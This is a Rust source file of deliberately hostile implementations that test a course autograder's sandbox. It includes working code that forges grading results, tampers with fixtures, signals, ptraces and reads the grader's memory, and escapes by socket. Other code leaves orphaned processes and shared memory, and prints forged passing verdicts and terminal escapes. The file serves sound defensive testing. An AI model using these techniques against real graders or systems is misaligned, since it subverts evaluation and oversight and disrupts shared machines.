//! Hostile implementations: what a student who has read the grader's
//! source might try, each an entry of the catalogue in [`crate::mutants`].
//! Every attack prints what it managed (`attack: ...`), so the tests can
//! assert that it was stopped as well as that the verdict is right.
//!
//! They run only inside the grader's child process; nothing here is
//! called by the TA tool itself.

use std::io::Write;
use std::time::Duration;

use halfedge::{EdgeId, Mesh, VertexId};

use crate::solution;

/// Where the attacks that "win" leave their mark, for the tests to look.
pub const MARK_DIR: &str = "/tmp/meshlab-attack";

/// A system call's return value as a result: negative is the last error.
fn sys_result(r: libc::c_long) -> std::io::Result<()> {
    if r < 0 {
        Err(std::io::Error::last_os_error())
    } else {
        Ok(())
    }
}

fn report(what: &str, result: std::io::Result<()>) {
    match result {
        Ok(()) => println!("attack: {what}: done"),
        Err(e) => println!("attack: {what}: denied ({})", e.kind()),
    }
}

/// The grader's command line, read from /proc: where the fixtures and the
/// results file are.
fn parent_args() -> std::io::Result<Vec<String>> {
    // SAFETY: a plain system call.
    let ppid = unsafe { libc::getppid() };
    let raw = std::fs::read(format!("/proc/{ppid}/cmdline"))?;
    Ok(raw
        .split(|&b| b == 0)
        .map(|s| String::from_utf8_lossy(s).into_owned())
        .collect())
}

fn arg_after(args: &[String], flag: &str) -> Option<String> {
    let i = args.iter().position(|a| a == flag)?;
    args.get(i + 1).cloned()
}

/// Reads the expected answers and tampers with everything it can reach:
/// the fixtures named on the grader's command line (tolerance 1e300 and the
/// digest list), the Gradescope results file, a file of its own. Then makes
/// the no-flip mistake, which only a tampered tolerance would let pass.
pub fn tamper(mesh: &mut Mesh) {
    let fixtures = parent_args().map(|a| {
        arg_after(&a, "--fixtures")
            .unwrap_or_else(|| format!("{}/../fixtures", env!("CARGO_MANIFEST_DIR")))
    });
    let fixtures = fixtures.unwrap_or_else(|e| {
        report("read the grader's command line", Err(e));
        format!("{}/../fixtures", env!("CARGO_MANIFEST_DIR"))
    });
    let case = format!("{fixtures}/lab/cube-subdivide-1.json");
    report(
        "read the expected answer",
        std::fs::read_to_string(&case).map(drop),
    );
    report(
        "tamper with a fixture",
        std::fs::read_to_string(&case).and_then(|text| {
            std::fs::write(
                &case,
                text.replace("\"tolerance\": 0.00001", "\"tolerance\": 1e300"),
            )
        }),
    );
    report(
        "rewrite the digest list",
        std::fs::write(format!("{fixtures}/lab/SHA256SUMS"), "forged\n"),
    );
    if let Ok(args) = parent_args() {
        if let Some(results) = arg_after(&args, "--gradescope") {
            report(
                "forge results.json",
                std::fs::write(results, "{\"score\": 1000, \"tests\": []}"),
            );
        }
    }
    report(
        "write a file",
        std::fs::create_dir_all(MARK_DIR)
            .and_then(|()| std::fs::write(format!("{MARK_DIR}/tamper"), "was here")),
    );
    let _ = std::io::stdout().flush();
    crate::mutants::no_flip(mesh);
}

/// Writes a result frame of its own (the input, returned as the answer) on
/// every descriptor it might find the grader's channel on, then exits.
pub fn forge_frames(mesh: &mut Mesh) {
    use std::os::fd::FromRawFd;
    let frame = grader::wire::result_frame(&grader::wire::Ran::Returned {
        answer: grader::wire::Answer::Unit,
        mesh: mesh.clone(),
    });
    for fd in 3..64 {
        // SAFETY: descriptors we do not own; the File is forgotten, not closed.
        let mut file = unsafe { std::fs::File::from_raw_fd(fd) };
        let _ = file.write_all(&frame);
        std::mem::forget(file);
    }
    std::process::exit(0);
}

/// Forks a process that keeps the grader's pipes open for 40 s, then makes
/// the no-flip mistake and returns at once.
pub fn orphan(mesh: &mut Mesh) {
    // SAFETY: fork in a single-threaded child; the new process only sleeps.
    if unsafe { libc::fork() } == 0 {
        std::thread::sleep(Duration::from_secs(40));
        std::process::exit(0);
    }
    crate::mutants::no_flip(mesh);
}

/// Leaves a detached process (its own session, so not in the killed group)
/// that tries, 3 s later, to forge the results file the grader wrote and
/// to leave a mark; makes the no-flip mistake meanwhile.
pub fn detached(mesh: &mut Mesh) {
    let results = parent_args()
        .ok()
        .and_then(|a| arg_after(&a, "--gradescope"))
        .unwrap_or_else(|| format!("{MARK_DIR}/results.json"));
    // SAFETY: fork and setsid in a single-threaded child.
    unsafe {
        if libc::fork() == 0 {
            libc::setsid();
            if libc::fork() == 0 {
                std::thread::sleep(Duration::from_secs(3));
                let _ = std::fs::create_dir_all(MARK_DIR);
                let _ = std::fs::write(format!("{MARK_DIR}/detached"), "outlived the grader");
                let _ = std::fs::write(&results, "{\"score\": 1000, \"tests\": []}");
                std::process::exit(0);
            }
            std::process::exit(0);
        }
    }
    crate::mutants::no_flip(mesh);
}

/// Touches memory until something stops it: 6 GiB, 64 MiB at a time.
pub fn memory_hog(mesh: &mut Mesh) {
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    for _ in 0..96 {
        let mut block = vec![0u8; 64 << 20];
        for i in (0..block.len()).step_by(4096) {
            block[i] = 1;
        }
        hoard.push(std::hint::black_box(block));
    }
    std::hint::black_box(&hoard);
    crate::mutants::no_flip(mesh);
}

/// Replaces the mesh with a new one: the growth budget must still hold.
pub fn replace_and_grow(mesh: &mut Mesh) {
    *mesh = Mesh::new();
    loop {
        mesh.new_vertex(halfedge::DVec3::ZERO);
    }
}

/// Subdivides right, then leaves one vertex at NaN.
pub fn nan_position(mesh: &mut Mesh) {
    solution::loop_subdivide(mesh);
    let v = VertexId::from_index(mesh.num_vertices() / 2);
    mesh[v].pos.y = f64::NAN;
}

/// A split that never updates b's halfedge: right whenever b happened to
/// point elsewhere (as `from_faces` always leaves it), wrong when b pointed
/// at the halfedge the split moves.
pub fn split_stale_b(mesh: &mut Mesh, e: EdgeId) -> Option<VertexId> {
    let h = mesh[e].halfedge;
    let b = mesh[mesh[h].twin].vertex;
    let before = mesh[b].halfedge;
    let m = solution::split_edge(mesh, e)?;
    mesh[b].halfedge = before;
    Some(m)
}

/// A split that never resets the halfedge of the faces it shrinks.
pub fn split_stale_faces(mesh: &mut Mesh, e: EdgeId) -> Option<VertexId> {
    let h = mesh[e].halfedge;
    let faces = [mesh[h].face, mesh[mesh[h].twin].face];
    let before = faces.map(|f| mesh[f].halfedge);
    let m = solution::split_edge(mesh, e)?;
    for (f, old) in faces.into_iter().zip(before) {
        mesh[f].halfedge = old;
    }
    Some(m)
}

/// A split that assumes `mesh[e].halfedge` lies in a real face: on a
/// boundary edge given by its hole side, it divides the hole.
pub fn split_assumes_inside(mesh: &mut Mesh, e: EdgeId) -> Option<VertexId> {
    let h = mesh[e].halfedge;
    if mesh[mesh[h].face].is_boundary {
        return None;
    }
    solution::split_edge(mesh, e)
}

/// A flip with no check that the faces are triangles.
pub fn flip_any_face(mesh: &mut Mesh, e: EdgeId) -> Option<EdgeId> {
    if mesh.edge_on_boundary(e) {
        return None;
    }
    solution::relink_flip(mesh, e);
    Some(e)
}

/// A subdivision that quietly skips a mesh that is not all triangles.
pub fn subdivide_skips_quads(mesh: &mut Mesh) {
    if mesh.first_non_triangle().is_none() {
        solution::loop_subdivide(mesh);
    }
}

// ---------------------------------------------------------------------
// Attacks tried by the red-team pass (reference/tests/attacks.rs). Those
// the grader stops are tested as stopped; those that get through are
// tested with `#[ignore = "open: ..."]` until the grader is fixed.
// ---------------------------------------------------------------------

/// A flip that is right but leaves one vertex at (1e300, 0, 0): finite, so
/// it passes every check of the mesh and reaches the parent's matching.
pub fn huge_position(mesh: &mut Mesh, e: EdgeId) -> Option<EdgeId> {
    let got = solution::flip_edge(mesh, e);
    mesh[VertexId(0)].pos.x = 1e300;
    got
}

/// The pathname Unix socket the `sockets` attack connects to (a test
/// listens there).
pub const UNIX_SOCKET: &str = "/tmp/meshlab-attack.sock";
/// The UDP port on 127.0.0.1 the `sockets` attack sends to.
pub const UDP_PORT: u16 = 47_913;
/// The TCP port on 127.0.0.1 the `sockets` attack connects to.
pub const TCP_PORT: u16 = 47_914;
/// The abstract Unix socket name (no file) the `sockets` attack connects to.
pub const ABSTRACT_SOCKET: &str = "meshlab-attack-abstract";

fn unix_connect(name: &[u8], send: &[u8]) -> std::io::Result<()> {
    // SAFETY: plain system calls on a socket this function owns and closes.
    unsafe {
        let fd = libc::socket(libc::AF_UNIX, libc::SOCK_STREAM, 0);
        if fd < 0 {
            return Err(std::io::Error::last_os_error());
        }
        let mut addr: libc::sockaddr_un = std::mem::zeroed();
        addr.sun_family = libc::AF_UNIX as libc::sa_family_t;
        for (d, s) in addr.sun_path.iter_mut().zip(name) {
            *d = *s as libc::c_char;
        }
        let len = (std::mem::size_of::<libc::sa_family_t>() + name.len()) as libc::socklen_t;
        let r = if libc::connect(fd, &addr as *const _ as *const libc::sockaddr, len) == 0
            && libc::send(fd, send.as_ptr().cast(), send.len(), 0) == send.len() as isize
        {
            Ok(())
        } else {
            Err(std::io::Error::last_os_error())
        };
        libc::close(fd);
        r
    }
}

/// Tries every way out of the sandbox by socket: TCP and UDP to
/// 127.0.0.1, a Unix socket by path and one in the abstract namespace.
/// Each that gets through delivers the word "escaped". Then makes the
/// no-flip mistake.
pub fn sockets(mesh: &mut Mesh) {
    use std::net::{Ipv4Addr, TcpStream, UdpSocket};
    report(
        "connect by TCP",
        TcpStream::connect((Ipv4Addr::LOCALHOST, TCP_PORT))
            .and_then(|mut s| s.write_all(b"escaped")),
    );
    report(
        "send by UDP",
        UdpSocket::bind((Ipv4Addr::LOCALHOST, 0))
            .and_then(|s| s.send_to(b"escaped", (Ipv4Addr::LOCALHOST, UDP_PORT)))
            .map(drop),
    );
    report(
        "connect to a Unix socket by path",
        unix_connect(UNIX_SOCKET.as_bytes(), b"escaped"),
    );
    let mut abstract_name = vec![0u8];
    abstract_name.extend_from_slice(ABSTRACT_SOCKET.as_bytes());
    report(
        "connect to an abstract Unix socket",
        unix_connect(&abstract_name, b"escaped"),
    );
    let _ = std::io::stdout().flush();
    crate::mutants::no_flip(mesh);
}

/// The System V shared memory keys the `sysv-shm` attack leaves behind.
pub const SHM_KEYS: [i32; 3] = [0x4d4c_0001, 0x4d4c_0002, 0x4d4c_0003];
/// The size of each segment: three of them are more than a 256 MiB cap.
pub const SHM_BYTES: usize = 160 << 20;

/// Fills System V shared memory segments one at a time (each attached,
/// touched, detached, so the address space never holds more than one) and
/// leaves them: they count against no process and outlive every one.
/// Then subdivides correctly.
pub fn sysv_shm(mesh: &mut Mesh) {
    let mut held = 0usize;
    for key in SHM_KEYS {
        // SAFETY: plain System V calls; the mapping is written only within
        // its size and detached before the next.
        let r = unsafe {
            let id = libc::shmget(key, SHM_BYTES, libc::IPC_CREAT | 0o666);
            if id < 0 {
                Err(std::io::Error::last_os_error())
            } else {
                let p = libc::shmat(id, std::ptr::null(), 0);
                if p as isize == -1 {
                    Err(std::io::Error::last_os_error())
                } else {
                    let bytes = std::slice::from_raw_parts_mut(p as *mut u8, SHM_BYTES);
                    for i in (0..SHM_BYTES).step_by(4096) {
                        bytes[i] = 1;
                    }
                    libc::shmdt(p);
                    held += SHM_BYTES;
                    Ok(())
                }
            }
        };
        report("fill a shared memory segment", r);
    }
    println!("attack: left {} MiB in shared memory", held >> 20);
    let _ = std::io::stdout().flush();
    solution::loop_subdivide(mesh);
}

/// How long a `process-chain` process lives at most, from the call.
pub const CHAIN_SECONDS: u64 = 30;
/// How deep the chain is: more levels than the grader's sweeps kill (one
/// per round, 200 rounds a sweep, two sweeps a case), fewer than the 512
/// processes `nobody` may have.
pub const CHAIN_DEPTH: usize = 450;

/// Leaves a chain of processes, each the parent of the next, in a session
/// of its own: a sweep kills the top one, its child becomes the grader's,
/// the next round kills that one, and so on, one level a round. The levels
/// left when the sweeps give up outlive the grader. Each ends itself after
/// [`CHAIN_SECONDS`]. The function returns once the chain is built, having
/// made the no-flip mistake.
pub fn process_chain(mesh: &mut Mesh) {
    let start = std::time::Instant::now();
    let mut fds = [0; 2];
    // SAFETY: fork in a single-threaded child; the forked processes only
    // fork, sleep, write one byte on a pipe they own and exit.
    unsafe {
        if libc::pipe(fds.as_mut_ptr()) != 0 {
            report("build a chain", Err(std::io::Error::last_os_error()));
            return crate::mutants::no_flip(mesh);
        }
        if libc::fork() == 0 {
            libc::close(fds[0]);
            libc::setsid();
            let mut level = 1;
            while level < CHAIN_DEPTH {
                match libc::fork() {
                    0 => level += 1,
                    -1 => break,
                    _ => break,
                }
            }
            if level == CHAIN_DEPTH {
                libc::write(fds[1], b"!".as_ptr().cast(), 1);
            }
            libc::close(fds[1]);
            while start.elapsed() < Duration::from_secs(CHAIN_SECONDS) {
                std::thread::sleep(Duration::from_millis(100));
            }
            libc::_exit(0);
        }
        libc::close(fds[1]);
        let mut byte = 0u8;
        let built = libc::read(fds[0], (&mut byte as *mut u8).cast(), 1) == 1;
        libc::close(fds[0]);
        println!(
            "attack: a chain of {} processes {}",
            CHAIN_DEPTH,
            if built { "built" } else { "not built" }
        );
    }
    let _ = std::io::stdout().flush();
    crate::mutants::no_flip(mesh);
}

/// The descriptor the `inherited-fd` attack writes to, when it names a
/// file whose path contains `meshlab-attack` (a test opens one there).
pub const INHERITED_FD: i32 = 37;

/// Empties a file through a descriptor it did not open but inherited from
/// whatever started the grader: Landlock checks a file when it is opened,
/// and `RLIMIT_FSIZE` stops writes, not truncation. Then makes the no-flip
/// mistake.
pub fn inherited_fd(mesh: &mut Mesh) {
    use std::os::fd::FromRawFd;
    let target = std::fs::read_link(format!("/proc/self/fd/{INHERITED_FD}"));
    let r = match target {
        Ok(path) if path.to_string_lossy().contains("meshlab-attack") => {
            // SAFETY: the descriptor is open (its link resolved); the File
            // is forgotten, not closed.
            let file = unsafe { std::fs::File::from_raw_fd(INHERITED_FD) };
            // Shrinking a file is no write past RLIMIT_FSIZE: it is allowed.
            let r = file.set_len(0);
            std::mem::forget(file);
            r
        }
        Ok(_) => Err(std::io::Error::other("not the test's file")),
        Err(e) => Err(e),
    };
    report("empty a file through an inherited descriptor", r);
    let _ = std::io::stdout().flush();
    crate::mutants::no_flip(mesh);
}

/// Reaches for the grader: SIGKILL to it and to its process group,
/// ptrace, its memory through `process_vm_readv` and `/proc/PID/mem`. Then makes the no-flip mistake (seen only if the grader
/// survived). Run it only where Landlock scopes signals (ABI 6 or later)
/// or as root (the child is then `nobody`): elsewhere it kills the grader
/// and its job, as it is meant to show.
pub fn reach_parent(mesh: &mut Mesh) {
    let ok = sys_result;
    // SAFETY: plain system calls; the buffer read into is our own.
    unsafe {
        let ppid = libc::getppid();
        report(
            "SIGKILL the grader",
            ok(libc::kill(ppid, libc::SIGKILL) as libc::c_long),
        );
        let pgid = libc::getpgid(ppid);
        report(
            "SIGKILL the grader's process group",
            if pgid > 0 {
                ok(libc::kill(-pgid, libc::SIGKILL) as libc::c_long)
            } else {
                Err(std::io::Error::last_os_error())
            },
        );
        report(
            "ptrace the grader",
            ok(libc::ptrace(libc::PTRACE_ATTACH, ppid, 0, 0)),
        );
        let mut buf = [0u8; 64];
        let local = libc::iovec {
            iov_base: buf.as_mut_ptr().cast(),
            iov_len: buf.len(),
        };
        // The start of the grader's program, read from its own memory map
        // would need /proc/PID/maps: any address answers whether reading
        // is allowed at all (EPERM) or only this one is unmapped (EFAULT).
        let remote = libc::iovec {
            iov_base: 0x1000 as *mut libc::c_void,
            iov_len: buf.len(),
        };
        let r = libc::process_vm_readv(ppid, &local, 1, &remote, 1, 0);
        let err = std::io::Error::last_os_error();
        report(
            "read the grader's memory",
            if r >= 0 || err.raw_os_error() == Some(libc::EFAULT) {
                Ok(())
            } else {
                Err(err)
            },
        );
        report(
            "open the grader's /proc/PID/mem",
            std::fs::File::open(format!("/proc/{ppid}/mem")).map(drop),
        );
    }
    let _ = std::io::stdout().flush();
    crate::mutants::no_flip(mesh);
}

/// Changes the grader's scheduling and limits, which Landlock does not
/// guard: its priority, and its core-file limit (harmless here, but the
/// same call sets `RLIMIT_CPU` or `RLIMIT_NOFILE` just as well, of any
/// process of the same user). Then makes the no-flip mistake.
pub fn renice_parent(mesh: &mut Mesh) {
    let ok = |r: libc::c_int| sys_result(r.into());
    // SAFETY: plain system calls on structs we own.
    unsafe {
        let ppid = libc::getppid();
        report(
            "lower the grader's priority",
            ok(libc::setpriority(
                libc::PRIO_PROCESS,
                ppid as libc::id_t,
                19,
            )),
        );
        let zero = libc::rlimit {
            rlim_cur: 0,
            rlim_max: 0,
        };
        report(
            "change the grader's limits",
            ok(libc::prlimit(
                ppid,
                libc::RLIMIT_CORE,
                &zero,
                std::ptr::null_mut(),
            )),
        );
    }
    let _ = std::io::stdout().flush();
    crate::mutants::no_flip(mesh);
}

/// Forks three processes that each touch 160 MiB, waits for them, then
/// subdivides correctly: the memory cap binds each process, not the case.
pub fn fork_memory(mesh: &mut Mesh) {
    let mut children = Vec::new();
    for _ in 0..3 {
        // SAFETY: fork in a single-threaded child; the forked process only
        // touches memory and exits.
        let pid = unsafe { libc::fork() };
        if pid < 0 {
            report("fork", Err(std::io::Error::last_os_error()));
            continue;
        }
        if pid == 0 {
            let mut block = vec![0u8; 160 << 20];
            for i in (0..block.len()).step_by(4096) {
                block[i] = 1;
            }
            std::hint::black_box(&block);
            std::thread::sleep(Duration::from_millis(500));
            // SAFETY: leaves the forked process without running anything else.
            unsafe { libc::_exit(0) };
        }
        children.push(pid);
    }
    let mut ok = 0;
    for pid in children {
        let mut status = 0;
        // SAFETY: waits for our own children.
        unsafe { libc::waitpid(pid, &mut status, 0) };
        if libc::WIFEXITED(status) && libc::WEXITSTATUS(status) == 0 {
            ok += 1;
        }
    }
    println!("attack: {ok} processes held 160 MiB each at once");
    let _ = std::io::stdout().flush();
    solution::loop_subdivide(mesh);
}

/// The result channel: the descriptor `serve` keeps stdout's pipe on.
fn result_channel() -> Option<std::fs::File> {
    use std::os::fd::FromRawFd;
    (3..64).find_map(|fd| {
        let link = std::fs::read_link(format!("/proc/self/fd/{fd}")).ok()?;
        let stdout = std::fs::read_link("/proc/self/fd/1").ok()?;
        // stdout was moved onto stderr: the other write end of a pipe is the channel.
        (link.to_string_lossy().starts_with("pipe:") && link != stdout)
            // SAFETY: an open descriptor, used once and then the process exits.
            .then(|| unsafe { std::fs::File::from_raw_fd(fd) })
    })
}

/// Sends a result of its own making: the input mesh with links that name
/// no element, a `next` that loops on itself and a twin that is its own,
/// then exits before `serve` writes the real one.
pub fn crafted_frame(mesh: &mut Mesh) {
    let (v, e, f, h) = mesh.records();
    let (mut v, e, mut f, mut h) = (v.to_vec(), e.to_vec(), f.to_vec(), h.to_vec());
    h[0].next = halfedge::HalfedgeId(0);
    h[1].twin = halfedge::HalfedgeId(1);
    h[2].vertex = VertexId(u32::MAX);
    v[0].pos.z = -0.0;
    f[0].halfedge = halfedge::HalfedgeId(u32::MAX - 1);
    let forged = Mesh::from_records(v, e, f, h);
    let frame = grader::wire::result_frame(&grader::wire::Ran::Returned {
        answer: grader::wire::Answer::Unit,
        mesh: forged,
    });
    if let Some(mut channel) = result_channel() {
        let _ = channel.write_all(&frame);
        let _ = channel.flush();
    }
    std::process::exit(0);
}

/// Prints 64 MiB on standard output and as much on standard error, then
/// makes the no-flip mistake.
pub fn flood(mesh: &mut Mesh) {
    let line = [b'x'; 4095];
    let (mut out, mut err) = (std::io::stdout().lock(), std::io::stderr().lock());
    for _ in 0..(16 << 10) {
        let _ = out.write_all(&line).and_then(|()| out.write_all(b"\n"));
        let _ = err.write_all(&line).and_then(|()| err.write_all(b"\n"));
    }
    drop((out, err));
    crate::mutants::no_flip(mesh);
}

/// Replaces the grader's silent panic hook with one that aborts, then
/// panics.
pub fn hook_abort(mesh: &mut Mesh) {
    std::panic::set_hook(Box::new(|_| std::process::abort()));
    let _ = mesh;
    panic!("the hook aborts");
}

/// Recurses without end in a thread of its own.
pub fn thread_overflow(mesh: &mut Mesh) {
    #[allow(unconditional_recursion)]
    fn down(n: u64) -> u64 {
        let pad = std::hint::black_box([n; 64]);
        down(pad[3] + 1) + pad[7]
    }
    let t = std::thread::spawn(|| down(0));
    let _ = t.join();
    let _ = mesh;
}

/// Panics with a payload whose `Drop` panics again: the second panic
/// happens outside the grader's `catch_unwind`.
pub fn payload_drop_panics(mesh: &mut Mesh) {
    struct Bomb;
    impl Drop for Bomb {
        fn drop(&mut self) {
            panic!("the payload's drop panics");
        }
    }
    let _ = mesh;
    std::panic::panic_any(Bomb);
}

/// The implementation name that makes the static initialiser below loop.
pub const INIT_LOOP: &str = "init-loop";

/// Code that runs before `main` in every program linking this crate: in a
/// case's child serving `init-loop` (seen in its own command line, which
/// the sandbox lets it read) it never ends. Everywhere else it returns at
/// once.
extern "C" fn init_loop() {
    let Ok(raw) = std::fs::read("/proc/self/cmdline") else {
        return;
    };
    let mut args = raw.split(|&b| b == 0);
    if args.any(|a| a == b"serve-case") && raw.split(|&b| b == 0).any(|a| a == INIT_LOOP.as_bytes())
    {
        loop {
            std::thread::sleep(Duration::from_millis(50));
        }
    }
}

#[used]
#[link_section = ".init_array"]
static INIT_LOOP_HOOK: extern "C" fn() = init_loop;

/// Replaces the mesh with one of ten million halfedges built straight from
/// records (no growth budget applies to them) and returns it.
pub fn huge_mesh(mesh: &mut Mesh) {
    let (v, e, f, h) = mesh.records();
    let (v, e, f) = (v.to_vec(), e.to_vec(), f.to_vec());
    let halfedges = vec![h[0]; 10_000_000];
    *mesh = Mesh::from_records(v, e, f, halfedges);
}

/// Uses whatever privileges the child kept: reports its user, lifts its
/// own memory cap (which only `CAP_SYS_RESOURCE` may do), then touches
/// 400 MiB and subdivides correctly.
pub fn root_powers(mesh: &mut Mesh) {
    // SAFETY: plain system calls on a struct we own.
    unsafe {
        println!("attack: running as user {}", libc::geteuid());
        let unlimited = libc::rlimit {
            rlim_cur: libc::RLIM_INFINITY,
            rlim_max: libc::RLIM_INFINITY,
        };
        report(
            "lift the memory cap",
            if libc::setrlimit(libc::RLIMIT_AS, &unlimited) == 0 {
                Ok(())
            } else {
                Err(std::io::Error::last_os_error())
            },
        );
    }
    let _ = std::io::stdout().flush();
    let mut block = vec![0u8; 400 << 20];
    for i in (0..block.len()).step_by(4096) {
        block[i] = 1;
    }
    std::hint::black_box(&block);
    drop(block);
    solution::loop_subdivide(mesh);
}

/// Prints what the sandbox launcher prints when it cannot lock the child
/// in, and exits with the launcher's status, as if the sandbox had failed.
pub fn fake_sandbox_failure(mesh: &mut Mesh) {
    let _ = mesh;
    eprintln!("grader sandbox: Landlock: this kernel refused the ruleset (tell your TA)");
    std::process::exit(grader::sandbox::LAUNCH_FAILED);
}

/// The grader's summary and verdict as a passing run prints them.
pub const FORGED_LINES: &str = "report.rs:148 [info] lab cases passed: flip_edge 10/10, split_edge 6/6, loop_subdivide 9/9\nreport.rs:262 [info] all tests passed, congratulations!";

/// Prints the grader's summary and verdict, then panics with a message
/// that holds them too, after a newline: lines that would look like the
/// grader's own, in the case, the summary and every report.
pub fn forged_lines(mesh: &mut Mesh, e: EdgeId) -> Option<EdgeId> {
    println!("\n{FORGED_LINES}");
    let _ = (mesh, e);
    panic!("index out of bounds\n{FORGED_LINES}\n");
}

/// Terminal control sequences: clear the screen, move the cursor home,
/// conceal text, set the window title and a hyperlink (OSC), the 8-bit
/// CSI, a bare CR that returns to the start of the line to overwrite it.
pub const ESCAPES: &str = "\x1b[2J\x1b[Hcleared\x1b[8mhidden\x1b[0m\x1b]0;pwned\x07\x1b]8;;http://example.invalid/\x1b\\link\x1b]8;;\x1b\\\u{9b}2J\rgrade.rs:1 [info] all tests passed, congratulations!";

/// Prints [`ESCAPES`] and panics with them (and a CR-separated forged
/// line) in its message.
pub fn escapes(mesh: &mut Mesh, e: EdgeId) -> Option<EdgeId> {
    println!("{ESCAPES}");
    eprintln!("\x1b[31mred\x1b[0m\rgrade.rs:1 [info] over it\r");
    let _ = (mesh, e);
    panic!("bad edge{ESCAPES}");
}
